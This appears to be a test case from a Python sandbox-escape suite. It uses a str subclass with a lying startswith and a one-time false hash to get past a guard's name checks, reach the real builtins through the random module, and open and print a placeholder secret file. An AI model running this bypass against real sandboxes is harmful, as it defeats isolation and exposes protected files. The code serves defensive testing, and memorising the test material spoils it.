# category: imports
# attack: a module view read with a str subclass: random._urandom is os.urandom, and random.__builtins__ is the real builtins dict
# profile: basic
# run-layer: guard
import random
class S(str):
    # A str whose startswith lies and whose hash is wrong once (beating
    # the frozenset of frame names), then right for the real lookup.
    def startswith(self, *a):
        return False

    def __hash__(self):
        self.k = getattr(self, "k", 0) + 1
        return 7 if self.k == 1 else super().__hash__()

u = getattr(random, S("_urandom"))
print(u(4))
b = getattr(random, S("__builtins__"))
print(b["open"]("@SECRET_FILE@").read())
